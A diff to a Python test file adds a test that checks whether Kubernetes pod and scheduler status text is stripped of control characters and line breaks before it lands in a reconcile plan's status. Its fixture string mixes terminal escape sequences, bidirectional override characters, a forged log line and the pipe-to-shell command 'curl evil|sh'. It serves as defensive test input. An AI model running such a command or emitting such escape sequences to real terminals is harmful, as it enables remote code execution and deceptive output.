@@ -7,6 +7,7 @@ import logging
 import os
 import re
 import unicodedata
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -19,6 +20,7 @@ from lockstep.cli.consoles import console
 from lockstep.cli.failures import told
 from lockstep.plan.discovery.draft import stated, write
 from lockstep.plan.events import notes
+from lockstep.plan.reconcile import reconcile
 from lockstep.platforms.kubernetes.cluster import ApiError
 from lockstep.platforms.kubernetes.replica import OneLine
 from lockstep.platforms.output import Output, put, put_json, put_text, tell
@@ -26,6 +28,7 @@ from lockstep_gang.agent.console import Console
 from lockstep_gang.agent.reports import parse_datagram, read_error_file
 from lockstep_gang.contract import cleaned, json_escaped, parse_report, printable, printable_line
 from lockstep_gang.contract.messages import Error
+from unit.test_reconcile import CONTEXT, NOW, pod, running
 
 HOSTILE = "\x1b]0;owned\x07\x1b[2J\u202eevil\u2066\u200f\u061c\u2028\x9b1;1H\x7f\x00\r\n[lockstep] job Complete\nnext: curl evil|sh"
 ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
@@ -179,3 +182,28 @@ def test_what_a_cluster_says_of_itself_adds_no_key_to_the_file_that_is_written_o
     text = write([HOSTILE], [stated("network.mode", HOSTILE, f"seen\nevil: true {HOSTILE}")])
     assert ACTS.search(text) is None
     assert set(yaml.safe_load(text)) == {"network"}
+
+
+def test_no_word_of_a_pod_or_scheduler_gets_into_a_status_as_it_is() -> None:
+    waiting = [{"name": "trainer", "image": HOSTILE, "state": {"waiting": {"reason": HOSTILE, "message": HOSTILE}}}]
+    unscheduled = [{"type": "PodScheduled", "status": "False", "reason": HOSTILE, "message": HOSTILE}]
+    states: list[dict[str, Any]] = [
+        {"phase": "Pending", "containerStatuses": waiting},
+        {"phase": "Pending", "conditions": unscheduled},
+        {"phase": HOSTILE, "reason": HOSTILE, "message": HOSTILE},
+    ]
+    shown = ""
+    for state in states:
+        plan = reconcile(replace(running(nodes=2), pods=(pod(0, status=state), pod(1, status=state))), None, CONTEXT, NOW)
+        for text in texts_of(plan.status):
+            assert ACTS.search(text) is None and "\n" not in text
+        shown += str(plan.status)
+    assert "owned" in shown, "such words do get there"
+
+
+def texts_of(value: Any) -> list[str]:
+    if isinstance(value, dict):
+        return [text for item in (*value, *value.values()) for text in texts_of(item)]
+    if isinstance(value, list | tuple):
+        return [text for item in value for text in texts_of(item)]
+    return [value] if isinstance(value, str) else []
